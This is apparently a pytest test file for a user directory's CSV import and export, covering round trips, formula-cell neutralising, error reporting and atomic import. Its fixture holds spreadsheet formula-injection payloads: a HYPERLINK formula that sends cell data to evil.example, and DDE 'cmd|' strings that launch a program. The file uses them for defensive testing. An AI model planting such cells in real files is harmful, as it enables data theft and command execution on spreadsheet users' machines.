"""The users list as CSV: import and export round trip, cells a spreadsheet would run
neutralised and restored, every bad line reported by number and column, a header needed, and an
import that is all or nothing."""

from __future__ import annotations

import csv
import io

import pytest

from doormail.users.csv import CsvError, parse_csv
from doormail.users.model import User
from doormail.users.store import UserStore
from tests.users.test_store import alice

HEADER = "id,name,email,numbers,cards,bluetooth,fingerprints\n"


# What a spreadsheet would run as a formula, written into every kind of cell.
FORMULA_USER = User(
    id="@home",
    name='=HYPERLINK("https://evil.example/?"&A1, "click")',
    email="=1+2@example.com",
    numbers=("+420601123456", "+420212345678"),
    cards=("0012AB34CD",),
    bluetooth=("-2+3+cmd|'/C-calc'!A0",),
    fingerprints=("@SUM(1+1)*cmd|'/C-calc'!A0", "fp-2"),
)


def test_csv_import_and_export_round_trip(users: UserStore) -> None:
    text = HEADER + (
        'u-alice,Alice Novak,"alice@example.com, alice@work.example",101;102,0012AB34CD,bt-1,fp-1;fp-2\n'
        "u-bob,Bob,,103,,,\n"
    )
    assert len(users.import_csv(text)) == 2
    bob = users.by_number("103")
    assert bob is not None and bob.email == "" and bob.name == "Bob"
    alice_found = users.by_number("102")
    assert alice_found is not None
    assert alice_found.fingerprints == ("fp-1", "fp-2")
    assert alice_found.addresses == ["alice@example.com", "alice@work.example"]
    exported = users.export_csv()
    assert exported.replace("\r\n", "\n") == HEADER + (
        '"u-alice","Alice Novak","alice@example.com, alice@work.example","101;102","0012AB34CD",'
        '"bt-1","fp-1;fp-2"\n"u-bob","Bob","","103","","",""\n'
    )
    assert parse_csv(exported) == parse_csv(text)


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(users: UserStore) -> None:
    users.import_users([FORMULA_USER])
    [row] = list(csv.reader(io.StringIO(users.export_csv())))[1:]
    assert [cell[:2] for cell in row] == ["'@", "'=", "'=", "'+", "00", "'-", "'@"]
    for line in users.export_csv().splitlines()[1:]:
        # Quoted, so that a spreadsheet splitting at `;` (as in many locales) keeps the cells.
        assert line.startswith('"') and line.endswith('"')


def test_an_exported_csv_imports_back_the_same_values(users: UserStore) -> None:
    apostrophes = User(id="u-2", name="'t Hooft", bluetooth=("'=1",), cards=("AB12CD34",))
    users.import_users([FORMULA_USER, apostrophes])
    exported = users.export_csv()
    assert parse_csv(exported) == [FORMULA_USER, apostrophes]
    number = parse_csv(exported)[0].numbers[0]
    assert number == "+420601123456"


def test_a_csv_written_by_hand_keeps_its_values_as_written() -> None:
    text = HEADER + "u-1,'t Hooft,,+420601123456;+421,,,\n"
    [user] = parse_csv(text)
    assert user.name == "'t Hooft"
    assert user.numbers == ("+420601123456", "+421")


def test_csv_columns_may_come_in_any_order_and_ids_are_generated() -> None:
    users = parse_csv("\ufeffname,email\nAlice,alice@example.com\nBob,\n")
    assert [u.name for u in users] == ["Alice", "Bob"]
    assert all(u.id.startswith("u-") for u in users)
    assert users[0].id != users[1].id


def test_csv_import_reports_every_bad_line_by_number_and_column() -> None:
    text = HEADER + (
        "u-1,Alice,alice@example.com,101,,,\n"  # line 2: fine
        "u-2,Bob,not-an-address,102,,,\n"  # line 3
        "u-3,Carol,carol@example.com,103\n"  # line 4: too few fields
        "\n"  # line 5: blank, skipped
        'u-4,"Dan\nDaniels",dan@example.com,104,,,\n'  # lines 6-7: a quoted line break
        "u-1,Eve,eve@example.com,105,,,\n"  # line 8: id of line 2
        "bad id,Fay,fay@example.com,106,,,\n"  # line 9
    )
    with pytest.raises(CsvError) as error:
        parse_csv(text)
    found = [(p.line, p.column) for p in error.value.problems]
    assert found == [(3, "email"), (4, "line"), (6, "name"), (8, "id"), (9, "id")]
    assert "line 2" in error.value.problems[3].message


@pytest.mark.parametrize(
    "text",
    ["", "u-1,Alice,alice@example.com\n", "id,name,phone\n", "id,name,name\n"],
)
def test_csv_import_needs_a_header(text: str) -> None:
    with pytest.raises(CsvError) as error:
        parse_csv(text)
    assert [(p.line, p.column) for p in error.value.problems] == [(1, "header")]


def test_csv_import_is_all_or_nothing(users: UserStore) -> None:
    users.create(alice())
    text = HEADER + "u-alice,Renamed,,,,,\nu-new,New,,201,,,\nu-bad,Bad,bad,,,,\n"
    with pytest.raises(CsvError):
        users.import_csv(text)
    assert users.by_id("u-alice") is not None
    assert users.by_id("u-alice") == users.by_number("101")
    assert users.by_id("u-new") is None
    assert users.count() == 1


def test_csv_import_replaces_users_of_the_same_id_and_keeps_others(
    users: UserStore,
) -> None:
    users.create(alice())
    users.create(User(id="u-bob", name="Bob"))
    users.import_csv(HEADER + "u-alice,Alice N.,alice@example.com,111,,,\n")
    found = users.by_id("u-alice")
    assert found is not None and found.numbers == ("111",) and found.name == "Alice N."
    assert users.by_id("u-bob") is not None
    users.import_csv(HEADER + "u-carol,Carol,,,,,\n", replace_all=True)
    assert [u.id for u in users.all()] == ["u-carol"]
